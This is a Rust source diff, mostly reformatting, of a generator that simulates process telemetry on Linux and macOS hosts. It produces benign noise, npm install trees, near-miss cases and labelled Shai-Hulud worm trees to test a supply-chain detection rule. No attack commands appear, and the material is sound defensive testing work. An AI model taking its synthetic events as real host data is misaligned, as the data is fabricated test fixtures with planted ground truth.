@@ -14,9 +14,27 @@ use super::truth::{NearMiss, Plan, TreeKind};
 
 /// Linux distributions: (family/platform, os.name, version, full name, kernel).
 pub(crate) const LINUX_FLAVORS: [(&str, &str, &str, &str, &str); 3] = [
-    ("ubuntu", "Ubuntu", "22.04.4", "Ubuntu 22.04.4 LTS", "5.15.0-105-generic"),
-    ("debian", "Debian GNU/Linux", "12", "Debian GNU/Linux 12 (bookworm)", "6.1.0-18-amd64"),
-    ("rhel", "Red Hat Enterprise Linux", "9.3", "Red Hat Enterprise Linux 9.3 (Plow)", "5.14.0-362.8.1.el9_3.x86_64"),
+    (
+        "ubuntu",
+        "Ubuntu",
+        "22.04.4",
+        "Ubuntu 22.04.4 LTS",
+        "5.15.0-105-generic",
+    ),
+    (
+        "debian",
+        "Debian GNU/Linux",
+        "12",
+        "Debian GNU/Linux 12 (bookworm)",
+        "6.1.0-18-amd64",
+    ),
+    (
+        "rhel",
+        "Red Hat Enterprise Linux",
+        "9.3",
+        "Red Hat Enterprise Linux 9.3 (Plow)",
+        "5.14.0-362.8.1.el9_3.x86_64",
+    ),
 ];
 /// macOS: (family, name, version, full name, kernel).
 pub(crate) const MAC_FLAVOR: (&str, &str, &str, &str, &str) =
@@ -33,7 +51,11 @@ pub(crate) fn build_hosts(n: u32, rng: &mut Rng, from_ms: i64) -> Vec<Host> {
         // Bresenham-style spread: host i is CrowdStrike when floor(0.3(i+1)) > floor(0.3 i).
         let crowdstrike = (3 * (i + 1)) / 10 > (3 * i) / 10;
         let mac = !crowdstrike && i % 10 == 4;
-        let sensor = if crowdstrike { Sensor::CrowdStrike } else { Sensor::Defend };
+        let sensor = if crowdstrike {
+            Sensor::CrowdStrike
+        } else {
+            Sensor::Defend
+        };
         let os = if mac { Os::Macos } else { Os::Linux };
         let id = match (sensor, os) {
             (Sensor::Defend, Os::Macos) => rng.uuid().to_uppercase(),
@@ -51,13 +73,23 @@ pub(crate) fn build_hosts(n: u32, rng: &mut Rng, from_ms: i64) -> Vec<Host> {
                 }
             }
         };
-        let ip = format!("10.{}.{}.{}", rng.range(0, 9), rng.range(0, 254), rng.range(2, 254));
-        let mac_addr = (0..6).map(|_| rng.hex(2)).collect::<Vec<_>>().join("-").to_uppercase();
+        let ip = format!(
+            "10.{}.{}.{}",
+            rng.range(0, 9),
+            rng.range(0, 254),
+            rng.range(2, 254)
+        );
+        let mac_addr = (0..6)
+            .map(|_| rng.hex(2))
+            .collect::<Vec<_>>()
+            .join("-")
+            .to_uppercase();
         let agent_id = rng.uuid();
         let cid = rng.hex(32);
         let flavor = rng.index(LINUX_FLAVORS.len());
-        let mut host =
-            Host::new(sensor, os, id, name, agent_id, cid, ip, mac_addr, flavor, rng);
+        let mut host = Host::new(
+            sensor, os, id, name, agent_id, cid, ip, mac_addr, flavor, rng,
+        );
         populate(&mut host, rng, from_ms);
         hosts.push(host);
     }
@@ -90,7 +122,11 @@ pub(crate) fn paths(host: &Host) -> Paths {
             node: "/usr/bin/node",
             npm: "/usr/bin/npm",
             yarn: "/usr/bin/yarn",
-            sh: if host.os_flavor == 2 { "/usr/bin/bash" } else { "/usr/bin/dash" },
+            sh: if host.os_flavor == 2 {
+                "/usr/bin/bash"
+            } else {
+                "/usr/bin/dash"
+            },
             home_root: "/home",
         },
     }
@@ -108,7 +144,19 @@ fn populate(host: &mut Host, rng: &mut Rng, from_ms: i64) {
     let sshd = host.existing_process(
         rng,
         Some(&init),
-        image("/usr/sbin/sshd", &["sshd:", "/usr/sbin/sshd", "-D", "[listener]", "0", "of", "10-100", "startups"]),
+        image(
+            "/usr/sbin/sshd",
+            &[
+                "sshd:",
+                "/usr/sbin/sshd",
+                "-D",
+                "[listener]",
+                "0",
+                "of",
+                "10-100",
+                "startups",
+            ],
+        ),
         boot + 4_000,
         ROOT,
         "/",
@@ -124,13 +172,20 @@ fn populate(host: &mut Host, rng: &mut Rng, from_ms: i64) {
         Some("init"),
     );
     let mut shells = Vec::new();
-    let users: Vec<User> = if host.os == Os::Macos { vec![MAC_USER] } else { LINUX_USERS.to_vec() };
+    let users: Vec<User> = if host.os == Os::Macos {
+        vec![MAC_USER]
+    } else {
+        LINUX_USERS.to_vec()
+    };
     for (k, user) in users.iter().enumerate() {
         let login = from_ms - rng.range(60_000, 8 * 3_600_000);
         let session = host.existing_process(
             rng,
             Some(&sshd),
-            image("/usr/sbin/sshd", &["sshd:", &format!("{}@pts/{k}", user.name)]),
+            image(
+                "/usr/sbin/sshd",
+                &["sshd:", &format!("{}@pts/{k}", user.name)],
+            ),
             login,
             *user,
             "/",
@@ -149,7 +204,11 @@ fn populate(host: &mut Host, rng: &mut Rng, from_ms: i64) {
         );
         shells.push(shell);
     }
-    let server_user = if host.os == Os::Macos { MAC_USER } else { LINUX_USERS[0] };
+    let server_user = if host.os == Os::Macos {
+        MAC_USER
+    } else {
+        LINUX_USERS[0]
+    };
     let node_server = host.existing_process(
         rng,
         Some(&init),
@@ -222,7 +281,9 @@ pub(crate) fn noise_weight(n: Noise, base: f64, sensor: Sensor) -> f64 {
     let cs = sensor == Sensor::CrowdStrike;
     match n {
         Noise::Subshell | Noise::NearForkOnly if cs => 0.0,
-        Noise::Inventory | Noise::NearSyntheticParent | Noise::NearSyntheticChild
+        Noise::Inventory
+        | Noise::NearSyntheticParent
+        | Noise::NearSyntheticChild
         | Noise::NearNoParentName
             if !cs =>
         {
@@ -242,15 +303,29 @@ const COMMANDS: [(&str, &[&str]); 14] = [
     ("/usr/bin/df", &["df", "-h"]),
     ("/usr/bin/free", &["free", "-m"]),
     ("/usr/bin/tail", &["tail", "-f", "/var/log/syslog"]),
-    ("/usr/bin/journalctl", &["journalctl", "-u", "nginx", "--since", "1 hour ago"]),
+    (
+        "/usr/bin/journalctl",
+        &["journalctl", "-u", "nginx", "--since", "1 hour ago"],
+    ),
     ("/usr/bin/top", &["top", "-b", "-n", "1"]),
-    ("/usr/bin/curl", &["curl", "-s", "http://localhost:8080/health"]),
+    (
+        "/usr/bin/curl",
+        &["curl", "-s", "http://localhost:8080/health"],
+    ),
     ("/usr/bin/docker", &["docker", "ps"]),
     ("/usr/bin/ssh", &["ssh", "deploy@10.0.4.12"]),
 ];
 
 const PACKAGES: [&str; 10] = [
-    "express", "lodash", "react", "typescript", "esbuild", "sharp", "bcrypt", "husky", "core-js",
+    "express",
+    "lodash",
+    "react",
+    "typescript",
+    "esbuild",
+    "sharp",
+    "bcrypt",
+    "husky",
+    "core-js",
     "@ctrl/tinycolor",
 ];
 
@@ -259,7 +334,10 @@ fn opts() -> SpawnOpts {
 }
 
 fn marks(m: &[Mark]) -> SpawnOpts {
-    SpawnOpts { marks: m.to_vec(), ..SpawnOpts::default() }
+    SpawnOpts {
+        marks: m.to_vec(),
+        ..SpawnOpts::default()
+    }
 }
 
 fn sh_c(p: &Paths, script: &str) -> Arc<Image> {
@@ -295,8 +373,18 @@ impl Ctx<'_> {
 
     /// Registers a tree plan. On a macOS host every plan becomes the `macos` near-miss: the
     /// OS condition fails first, whatever else the tree does.
-    fn register(&mut self, kind: TreeKind, plan: Plan, note: Option<&'static str>, single: bool) -> u64 {
-        let plan = if self.host.os == Os::Macos { Plan::NearMiss(NearMiss::Macos) } else { plan };
+    fn register(
+        &mut self,
+        kind: TreeKind,
+        plan: Plan,
+        note: Option<&'static str>,
+        single: bool,
+    ) -> u64 {
+        let plan = if self.host.os == Os::Macos {
+            Plan::NearMiss(NearMiss::Macos)
+        } else {
+            plan
+        };
         self.trees.register(kind, plan, note, single)
     }
 
@@ -308,14 +396,36 @@ impl Ctx<'_> {
             Noise::ShellCommand => {
                 let sh = self.shell();
                 let (exe, args) = *self.rng.pick(&COMMANDS);
-                let exe = if self.host.os == Os::Macos { exe.replace("/usr/bin/", "/bin/") } else { exe.to_string() };
+                let exe = if self.host.os == Os::Macos {
+                    exe.replace("/usr/bin/", "/bin/")
+                } else {
+                    exe.to_string()
+                };
                 let life = self.rng.range(5, 4_000);
-                self.spawn(&sh, s, image(&exe, args), life, SpawnOpts { new_group: true, ..opts() });
+                self.spawn(
+                    &sh,
+                    s,
+                    image(&exe, args),
+                    life,
+                    SpawnOpts {
+                        new_group: true,
+                        ..opts()
+                    },
+                );
             }
             Noise::Subshell => {
                 let sh = self.shell();
                 let life = self.rng.range(2, 60);
-                self.spawn(&sh, s, sh.image.clone(), life, SpawnOpts { fork_only: true, ..opts() });
+                self.spawn(
+                    &sh,
+                    s,
+                    sh.image.clone(),
+                    life,
+                    SpawnOpts {
+                        fork_only: true,
+                        ..opts()
+                    },
+                );
             }
             Noise::Cron => {
                 let cron = self.host.cron.clone().unwrap_or_else(|| self.init());
@@ -338,7 +448,10 @@ impl Ctx<'_> {
                 let rp = self.spawn(
                     &sh.proc,
                     sh.start_ts + 5,
-                    image("/usr/bin/run-parts", &["run-parts", "--report", "/etc/cron.hourly"]),
+                    image(
+                        "/usr/bin/run-parts",
+                        &["run-parts", "--report", "/etc/cron.hourly"],
+                    ),
                     1_400,
                     opts(),
                 );
@@ -353,9 +466,18 @@ impl Ctx<'_> {
             Noise::Systemd => {
                 let init = self.init();
                 let (exe, args): (&str, &[&str]) = *self.rng.pick(&[
-                    ("/usr/bin/systemd-tmpfiles", &["systemd-tmpfiles", "--clean"][..]),
-                    ("/usr/lib/apt/apt.systemd.daily", &["/bin/sh", "/usr/lib/apt/apt.systemd.daily", "update"][..]),
-                    ("/usr/sbin/logrotate", &["/usr/sbin/logrotate", "/etc/logrotate.conf"][..]),
+                    (
+                        "/usr/bin/systemd-tmpfiles",
+                        &["systemd-tmpfiles", "--clean"][..],
+                    ),
+                    (
+                        "/usr/lib/apt/apt.systemd.daily",
+                        &["/bin/sh", "/usr/lib/apt/apt.systemd.daily", "update"][..],
+                    ),
+                    (
+                        "/usr/sbin/logrotate",
+                        &["/usr/sbin/logrotate", "/etc/logrotate.conf"][..],
+                    ),
                     ("/usr/bin/fwupdmgr", &["/usr/bin/fwupdmgr", "refresh"][..]),
                 ]);
                 let life = self.rng.range(50, 5_000);
@@ -364,16 +486,28 @@ impl Ctx<'_> {
                     s,
                     image(exe, args),
                     life,
-                    SpawnOpts { new_session: Some("init"), user: Some(ROOT), cwd: Some("/".into()), ..opts() },
+                    SpawnOpts {
+                        new_session: Some("init"),
+                        user: Some(ROOT),
+                        cwd: Some("/".into()),
+                        ..opts()
+                    },
                 );
             }
             Noise::SshLogin => {
                 let sshd = self.host.sshd.clone().unwrap_or_else(|| self.init());
-                let user = if self.host.os == Os::Macos { MAC_USER } else { *self.rng.pick(&LINUX_USERS) };
+                let user = if self.host.os == Os::Macos {
+                    MAC_USER
+                } else {
+                    *self.rng.pick(&LINUX_USERS)
+                };
                 let priv_ = self.spawn(
                     &sshd,
                     s,
-                    image("/usr/sbin/sshd", &["sshd:", &format!("{} [priv]", user.name)]),
+                    image(
+                        "/usr/sbin/sshd",
+                        &["sshd:", &format!("{} [priv]", user.name)],
+                    ),
                     20_000,
                     opts(),
                 );
@@ -384,10 +518,18 @@ impl Ctx<'_> {
                     priv_.start_ts + 200,
                     image(p.shell, &[&format!("-{shell_name}")]),
                     19_000,
-                    SpawnOpts { new_session: Some("sshd"), user: Some(user), cwd: Some(home.into()), ..opts() },
+                    SpawnOpts {
+                        new_session: Some("sshd"),
+                        user: Some(user),
+                        cwd: Some(home.into()),
+                        ..opts()
+                    },
                 );
                 let mut t = login.start_ts + 30;
-                for (exe, args) in [("/usr/bin/id", &["id"][..]), ("/usr/bin/uname", &["uname", "-a"][..])] {
+                for (exe, args) in [
+                    ("/usr/bin/id", &["id"][..]),
+                    ("/usr/bin/uname", &["uname", "-a"][..]),
+                ] {
                     self.spawn(&login.proc, t, image(exe, args), 4, opts());
                     t += self.rng.range(10, 400);
                 }
@@ -400,13 +542,23 @@ impl Ctx<'_> {
                     s,
                     image("/usr/bin/git", &["git", verb]),
                     1_500,
-                    SpawnOpts { new_group: true, ..opts() },
+                    SpawnOpts {
+                        new_group: true,
+                        ..opts()
+                    },
                 );
                 if verb == "pull" || verb == "fetch" {
                     self.spawn(
                         &git.proc,
                         git.start_ts + 20,
-                        image("/usr/lib/git-core/git-remote-https", &["git-remote-https", "origin", "https://github.com/acme/app.git"]),
+                        image(
+                            "/usr/lib/git-core/git-remote-https",
+                            &[
+                                "git-remote-https",
+                                "origin",
+                                "https://github.com/acme/app.git",
+                            ],
+                        ),
                         1_200,
                         opts(),
                     );
@@ -419,26 +571,46 @@ impl Ctx<'_> {
                     s,
                     image("/usr/bin/make", &["make", "-j4"]),
                     3_000,
-                    SpawnOpts { new_group: true, ..opts() },
+                    SpawnOpts {
+                        new_group: true,
+                        ..opts()
+                    },
                 );
                 let cc = self.spawn(
                     &make.proc,
                     make.start_ts + 15,
-                    image("/usr/bin/cc", &["cc", "-O2", "-Wall", "-c", "main.c", "-o", "main.o"]),
+                    image(
+                        "/usr/bin/cc",
+                        &["cc", "-O2", "-Wall", "-c", "main.c", "-o", "main.o"],
+                    ),
                     900,
                     opts(),
                 );
                 let cc1 = self.spawn(
                     &cc.proc,
                     cc.start_ts + 5,
-                    image("/usr/lib/gcc/x86_64-linux-gnu/12/cc1", &["/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "main.c", "-O2", "-Wall", "-o", "/tmp/ccq2R1.s"]),
+                    image(
+                        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
+                        &[
+                            "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
+                            "-quiet",
+                            "main.c",
+                            "-O2",
+                            "-Wall",
+                            "-o",
+                            "/tmp/ccq2R1.s",
+                        ],
+                    ),
                     600,
                     opts(),
                 );
                 self.spawn(
                     &cc.proc,
                     cc1.start_ts + 610,
-                    image("/usr/bin/as", &["as", "--64", "-o", "main.o", "/tmp/ccq2R1.s"]),
+                    image(
+                        "/usr/bin/as",
+                        &["as", "--64", "-o", "main.o", "/tmp/ccq2R1.s"],
+                    ),
                     80,
                     opts(),
                 );
@@ -450,7 +622,10 @@ impl Ctx<'_> {
                     s,
                     image("/usr/bin/python3", &["python3", "manage.py", "test"]),
                     6_000,
-                    SpawnOpts { new_group: true, ..opts() },
+                    SpawnOpts {
+                        new_group: true,
+                        ..opts()
+                    },
                 );
                 let child_at = py.start_ts + self.rng.range(100, 3_000);
                 self.spawn(
@@ -465,14 +640,32 @@ impl Ctx<'_> {
                 // `node server.js`: process.name node but no "install" argument.
                 let sh = self.shell();
                 let life = self.rng.range(20_000, 120_000);
-                let node = self.spawn(&sh, s, image(p.node, &["node", "server.js"]), life, SpawnOpts { new_group: true, ..opts() });
+                let node = self.spawn(
+                    &sh,
+                    s,
+                    image(p.node, &["node", "server.js"]),
+                    life,
+                    SpawnOpts {
+                        new_group: true,
+                        ..opts()
+                    },
+                );
                 let child_at = node.start_ts + self.rng.range(500, 5_000);
-                self.spawn(&node.proc, child_at, sh_c(&p, &format!("ps -o rss= -p {}", node.proc.pid)), 15, opts());
+                self.spawn(
+                    &node.proc,
+                    child_at,
+                    sh_c(&p, &format!("ps -o rss= -p {}", node.proc.pid)),
+                    15,
+                    opts(),
+                );
             }
             Noise::NodeServerChild => {
                 // Children of a long-running node: stage-2 look-alikes with no stage 1.
                 let server = self.host.node_server.clone().unwrap_or_else(|| self.init());
-                let script = *self.rng.pick(&["git rev-parse --short HEAD", "uname -r", "df -k /srv"]);
+                let script =
+                    *self
+                        .rng
+                        .pick(&["git rev-parse --short HEAD", "uname -r", "df -k /srv"]);
                 let life = self.rng.range(5, 80);
                 self.spawn(&server, s, sh_c(&p, script), life, opts());
             }
@@ -485,9 +678,22 @@ impl Ctx<'_> {
                 };
                 let with_children = self.rng.chance(0.5);
                 let tree = with_children.then(|| {
-                    self.register(TreeKind::Benign, Plan::NearMiss(NearMiss::NoInstallArg), None, false)
+                    self.register(
+                        TreeKind::Benign,
+                        Plan::NearMiss(NearMiss::NoInstallArg),
+                        None,
+                        false,
+                    )
                 });
-                self.npm_with_children(&sh, s, &args, tree, if with_children { 2 } else { 0 }, ChildStyle::Normal, None);
+                self.npm_with_children(
+                    &sh,
+                    s,
+                    &args,
+                    tree,
+                    if with_children { 2 } else { 0 },
+                    ChildStyle::Normal,
+                    None,
+                );
             }
             Noise::Yarn => {
                 let sh = self.shell();
@@ -499,7 +705,11 @@ impl Ctx<'_> {
                 self.npm_with_children(&sh, s, &yarn_args, None, 1, ChildStyle::Normal, None);
             }
             Noise::Inventory => {
-                let candidates = [self.host.sshd.clone(), self.host.cron.clone(), self.host.node_server.clone()];
+                let candidates = [
+                    self.host.sshd.clone(),
+                    self.host.cron.clone(),
+                    self.host.node_server.clone(),
+                ];
                 if let Some(p) = self.rng.pick(&candidates).clone() {
                     // All three were started by init (see `populate`).
                     let init = self.init();
@@ -508,41 +718,132 @@ impl Ctx<'_> {
             }
             Noise::NearCase => {
                 let sh = self.shell();
-                let tree = self.register(TreeKind::Benign, Plan::NearMiss(NearMiss::Case), None, false);
+                let tree = self.register(
+                    TreeKind::Benign,
+                    Plan::NearMiss(NearMiss::Case),
+                    None,
+                    false,
+                );
                 let n = self.rng.range(1, 3) as usize;
-                self.npm_with_children(&sh, s, &["node", p.npm, "Install"], Some(tree), n, ChildStyle::Normal, None);
+                self.npm_with_children(
+                    &sh,
+                    s,
+                    &["node", p.npm, "Install"],
+                    Some(tree),
+                    n,
+                    ChildStyle::Normal,
+                    None,
+                );
             }
             Noise::NearLate => {
                 let sh = self.shell();
-                let tree = self.register(TreeKind::Benign, Plan::Expected, Some("first child 10.001 s after npm"), false);
+                let tree = self.register(
+                    TreeKind::Benign,
+                    Plan::Expected,
+                    Some("first child 10.001 s after npm"),
+                    false,
+                );
                 let n = self.rng.range(1, 3) as usize;
-                self.npm_with_children(&sh, s, &["node", p.npm, "install"], Some(tree), n, ChildStyle::Normal, Some(10_001));
+                self.npm_with_children(
+                    &sh,
+                    s,
+                    &["node", p.npm, "install"],
+                    Some(tree),
+                    n,
+                    ChildStyle::Normal,
+                    Some(10_001),
+                );
             }
             Noise::NearIgnoreScripts => {
                 let sh = self.shell();
-                let tree = self.register(TreeKind::Benign, Plan::NearMiss(NearMiss::IgnoreScripts), None, true);
-                self.npm_with_children(&sh, s, &["node", p.npm, "install", "--ignore-scripts"], Some(tree), 0, ChildStyle::Normal, None);
+                let tree = self.register(
+                    TreeKind::Benign,
+                    Plan::NearMiss(NearMiss::IgnoreScripts),
+                    None,
+                    true,
+                );
+                self.npm_with_children(
+                    &sh,
+                    s,
+                    &["node", p.npm, "install", "--ignore-scripts"],
+                    Some(tree),
+                    0,
+                    ChildStyle::Normal,
+                    None,
+                );
             }
             Noise::NearSyntheticParent => {
                 let sh = self.shell();
-                let tree = self.register(TreeKind::Benign, Plan::NearMiss(NearMiss::SyntheticParent), None, false);
-                self.npm_with_children(&sh, s, &["node", p.npm, "install"], Some(tree), 2, ChildStyle::SyntheticParent, None);
+                let tree = self.register(
+                    TreeKind::Benign,
+                    Plan::NearMiss(NearMiss::SyntheticParent),
+                    None,
+                    false,
+                );
+                self.npm_with_children(
+                    &sh,
+                    s,
+                    &["node", p.npm, "install"],
+                    Some(tree),
+                    2,
+                    ChildStyle::SyntheticParent,
+                    None,
+                );
             }
             Noise::NearSyntheticChild => {
                 let sh = self.shell();
-                let tree = self.register(TreeKind::Benign, Plan::NearMiss(NearMiss::SyntheticChild), None, false);
+                let tree = self.register(
+                    TreeKind::Benign,
+                    Plan::NearMiss(NearMiss::SyntheticChild),
+                    None,
+                    false,
+                );
                 // One child only: a later genuine child would still match.
-                self.npm_with_children(&sh, s, &["node", p.npm, "install"], Some(tree), 1, ChildStyle::SyntheticChild, None);
+                self.npm_with_children(
+                    &sh,
+                    s,
+                    &["node", p.npm, "install"],
+                    Some(tree),
+                    1,
+                    ChildStyle::SyntheticChild,
+                    None,
+                );
             }
             Noise::NearNoParentName => {
                 let sh = self.shell();
-                let tree = self.register(TreeKind::Benign, Plan::NearMiss(NearMiss::NoParentName), None, false);
-                self.npm_with_children(&sh, s, &["node", p.npm, "install"], Some(tree), 2, ChildStyle::NoParentName, None);
+                let tree = self.register(
+                    TreeKind::Benign,
+                    Plan::NearMiss(NearMiss::NoParentName),
+                    None,
+                    false,
+                );
+                self.npm_with_children(
+                    &sh,
+                    s,
+                    &["node", p.npm, "install"],
+                    Some(tree),
+                    2,
+                    ChildStyle::NoParentName,
+                    None,
+                );
             }
             Noise::NearForkOnly => {
                 let sh = self.shell();
-                let tree = self.register(TreeKind::Benign, Plan::NearMiss(NearMiss::ForkOnly), None, false);
-                self.npm_with_children(&sh, s, &["node", p.npm, "install"], Some(tree), 1, ChildStyle::ForkOnly, None);
+                let tree = self.register(
+                    TreeKind::Benign,
+                    Plan::NearMiss(NearMiss::ForkOnly),
+                    None,
+                    false,
+                );
+                self.npm_with_children(
+                    &sh,
+                    s,
+                    &["node", p.npm, "install"],
+                    Some(tree),
+                    1,
+                    ChildStyle::ForkOnly,
+                    None,
+                );
             }
         }
     }
@@ -577,14 +878,22 @@ impl Ctx<'_> {
             },
         );
         for d in delays {
-            let script = *self.rng.pick(&["node install.js", "node-gyp rebuild", "prebuild-install || node-gyp rebuild"]);
+            let script = *self.rng.pick(&[
+                "node install.js",
+                "node-gyp rebuild",
+                "prebuild-install || node-gyp rebuild",
+            ]);
             let child_marks: Vec<Mark> = tree.map(Mark::Child).into_iter().collect();
             let o = SpawnOpts {
                 marks: child_marks,
                 synthetic: style == ChildStyle::SyntheticChild,
                 hide_parent_name: style == ChildStyle::NoParentName,
                 fork_only: style == ChildStyle::ForkOnly,
-                exit_code: if style == ChildStyle::ForkOnly { 127 } else { 0 },
+                exit_code: if style == ChildStyle::ForkOnly {
+                    127
+                } else {
+                    0
+                },
                 ..opts()
             };
             let life = self.rng.range(200, 3_000);
@@ -605,7 +914,12 @@ impl Ctx<'_> {
     }
 
     /// One npm install tree at `t0`; returns what kind of tree it was.
-    pub(crate) fn install_tree(&mut self, t0: i64, script_rate: f64, malicious_rate: f64) -> InstallOutcome {
+    pub(crate) fn install_tree(
+        &mut self,
+        t0: i64,
+        script_rate: f64,
+        malicious_rate: f64,
+    ) -> InstallOutcome {
         let p = paths(self.host);
         let sh = self.shell();
         let s = t0 + 3;
@@ -620,9 +934,16 @@ impl Ctx<'_> {
         }
         if self.rng.chance(malicious_rate) {
             let wave2 = self.rng.chance(0.5);
-            let kind = if wave2 { TreeKind::ShaiHulud2 } else { TreeKind::ShaiHulud1 };
+            let kind = if wave2 {
+                TreeKind::ShaiHulud2
+            } else {
+                TreeKind::ShaiHulud1
+            };
             let tree = self.register(kind, Plan::Expected, None, false);
-            let delays = { let n = self.rng.range(1, 3) as usize; self.child_delays(n, None) };
+            let delays = {
+                let n = self.rng.range(1, 3) as usize;
+                self.child_delays(n, None)
+            };
             let npm = self.npm_process(&sh, s, &args, tree, &delays, 40_000);
             for (i, d) in delays.iter().enumerate() {
                 let at = npm.start_ts + d;
@@ -641,33 +962,60 @@ impl Ctx<'_> {
         if variant < 0.04 {
             // A nested npm: `npm install` runs `npm install --no-save <peer>` directly (no
             // shell), so that node process is stage 2 of the outer tree and stage 1 of its own.
-            let outer = self.register(TreeKind::Benign, Plan::Expected, Some("outer npm of a nested npm install"), false);
-            let inner = self.register(TreeKind::Benign, Plan::Expected, Some("nested npm install (stage 2 of the outer tree and stage 1 of its own)"), false);
+            let outer = self.register(
+                TreeKind::Benign,
+                Plan::Expected,
+                Some("outer npm of a nested npm install"),
+                false,
+            );
+            let inner = self.register(
+                TreeKind::Benign,
+                Plan::Expected,
+                Some("nested npm install (stage 2 of the outer tree and stage 1 of its own)"),
+                false,
+            );
             let d_outer = self.child_delays(1, None);
             let npm = self.npm_process(&sh, s, &args, outer, &d_outer, 20_000);
             let inner_args = ["node", p.npm, "install", "--no-save", "react-dom"];
             let inner_at = npm.start_ts + d_outer[0];
-            let d_inner = { let n = self.rng.range(1, 2) as usize; self.child_delays(n, None) };
+            let d_inner = {
+                let n = self.rng.range(1, 2) as usize;
+                self.child_delays(n, None)
+            };
             let inner_life = d_inner.last().copied().unwrap_or(0) + 2_000;
             let inner_npm = self.spawn(
                 &npm.proc,
                 inner_at,
                 image(p.node, &inner_args),
                 inner_life,
-                SpawnOpts { via_env: true, marks: vec![Mark::Child(outer), Mark::Stage0(inner)], ..opts() },
+                SpawnOpts {
+                    via_env: true,
+                    marks: vec![Mark::Child(outer), Mark::Stage0(inner)],
+                    ..opts()
+                },
             );
             for d in d_inner {
-                self.benign_script(&inner_npm.proc, inner_npm.start_ts + d, &[Mark::Child(inner)]);
+                self.benign_script(
+                    &inner_npm.proc,
+                    inner_npm.start_ts + d,
+                    &[Mark::Child(inner)],
+                );
             }
             return InstallOutcome::Scripts(TreeKind::Benign);
         }
         let (note, first) = if variant < 0.08 {
-            (Some("maxspan boundary: first child exactly 10.000 s after npm"), Some(10_000))
+            (
+                Some("maxspan boundary: first child exactly 10.000 s after npm"),
+                Some(10_000),
+            )
         } else {
             (None, None)
         };
         let tree = self.register(TreeKind::Benign, Plan::Expected, note, false);
-        let delays = { let n = self.rng.range(1, 4) as usize; self.child_delays(n, first) };
+        let delays = {
+            let n = self.rng.range(1, 4) as usize;
+            self.child_delays(n, first)
+        };
         let npm = self.npm_process(&sh, s, &args, tree, &delays, 10_000);
         for d in delays {
             self.benign_script(&npm.proc, npm.start_ts + d, &[Mark::Child(tree)]);
@@ -675,7 +1023,15 @@ impl Ctx<'_> {
         InstallOutcome::Scripts(TreeKind::Benign)
     }
 
-    fn npm_process(&mut self, sh: &Proc, s: i64, args: &[&str], tree: u64, delays: &[i64], tail: i64) -> Spawned {
+    fn npm_process(
+        &mut self,
+        sh: &Proc,
+        s: i64,
+        args: &[&str],
+        tree: u64,
+        delays: &[i64],
+        tail: i64,
+    ) -> Spawned {
         let p = paths(self.host);
         let life = delays.last().copied().unwrap_or(0) + self.rng.range(2_000, tail);
         let cwd: Arc<str> = format!("{}/project", sh.cwd).into();
@@ -684,7 +1040,13 @@ impl Ctx<'_> {
             s,
             image(p.node, args),
             life,
-            SpawnOpts { via_env: true, new_group: true, cwd: Some(cwd), marks: vec![Mark::Stage0(tree)], ..opts() },
+            SpawnOpts {
+                via_env: true,
+                new_group: true,
+                cwd: Some(cwd),
+                marks: vec![Mark::Stage0(tree)],
+                ..opts()
+            },
         )
     }
 
@@ -706,41 +1068,123 @@ impl Ctx<'_> {
                 let gyp = self.spawn(
                     &sh.proc,
                     t,
-                    image(p.node, &["node", "/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js", "rebuild"]),
+                    image(
+                        p.node,
+                        &[
+                            "node",
+                            "/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js",
+                            "rebuild",
+                        ],
+                    ),
                     3_500,
-                    SpawnOpts { via_env: true, ..opts() },
+                    SpawnOpts {
+                        via_env: true,
+                        ..opts()
+                    },
                 );
                 // make's parent is node: a stage-2 look-alike keyed to node-gyp, which is no stage 1.
-                let make = self.spawn(&gyp.proc, gyp.start_ts + 300, image("/usr/bin/make", &["make", "BUILDTYPE=Release", "-C", "build"]), 2_500, opts());
-                self.spawn(&make.proc, make.start_ts + 20, image("/usr/bin/g++", &["g++", "-o", "Release/obj.target/binding.o", "../src/binding.cc"]), 1_800, opts());
+                let make = self.spawn(
+                    &gyp.proc,
+                    gyp.start_ts + 300,
+                    image(
+                        "/usr/bin/make",
+                        &["make", "BUILDTYPE=Release", "-C", "build"],
+                    ),
+                    2_500,
+                    opts(),
+                );
+                self.spawn(
+                    &make.proc,
+                    make.start_ts + 20,
+                    image(
+                        "/usr/bin/g++",
+                        &[
+                            "g++",
+                            "-o",
+                            "Release/obj.target/binding.o",
+                            "../src/binding.cc",
+                        ],
+                    ),
+                    1_800,
+                    opts(),
+                );
             }
             1 => {
-                self.spawn(&sh.proc, t, image(p.node, &["node", "install.js"]), 600, opts());
+                self.spawn(
+                    &sh.proc,
+                    t,
+                    image(p.node, &["node", "install.js"]),
+                    600,
+                    opts(),
+                );
             }
             2 => {
                 // husky is a `#!/usr/bin/env node` script: its node process has "install" in
                 // process.args, and it runs git right away, so ES matches it on its own.
-                let nested = self.register(TreeKind::Benign, Plan::Expected, Some("husky install: its own node process runs git"), false);
+                let nested = self.register(
+                    TreeKind::Benign,
+                    Plan::Expected,
+                    Some("husky install: its own node process runs git"),
+                    false,
+                );
                 let husky = self.spawn(
                     &sh.proc,
                     t,
-                    image(p.node, &["node", "/srv/app/project/node_modules/.bin/husky", "install"]),
+                    image(
+                        p.node,
+                        &[
+                            "node",
+                            "/srv/app/project/node_modules/.bin/husky",
+                            "install",
+                        ],
+                    ),
                     800,
-                    SpawnOpts { via_env: true, marks: vec![Mark::Stage0(nested)], ..opts() },
+                    SpawnOpts {
+                        via_env: true,
+                        marks: vec![Mark::Stage0(nested)],
+                        ..opts()
+                    },
                 );
                 let git_at = husky.start_ts + self.rng.range(30, 300);
-                self.spawn(&husky.proc, git_at, image("/usr/bin/git", &["git", "config", "core.hooksPath", ".husky"]), 20, marks(&[Mark::Child(nested)]));
+                self.spawn(
+                    &husky.proc,
+                    git_at,
+                    image(
+                        "/usr/bin/git",
+                        &["git", "config", "core.hooksPath", ".husky"],
+                    ),
+                    20,
+                    marks(&[Mark::Child(nested)]),
+                );
             }
             3 => {
-                self.spawn(&sh.proc, t, image(p.node, &["node", "-e", "try{require('./postinstall')}catch(e){}"]), 300, opts());
+                self.spawn(
+                    &sh.proc,
+                    t,
+                    image(
+                        p.node,
+                        &["node", "-e", "try{require('./postinstall')}catch(e){}"],
+                    ),
+                    300,
+                    opts(),
+                );
             }
             _ => {
                 self.spawn(
                     &sh.proc,
                     t,
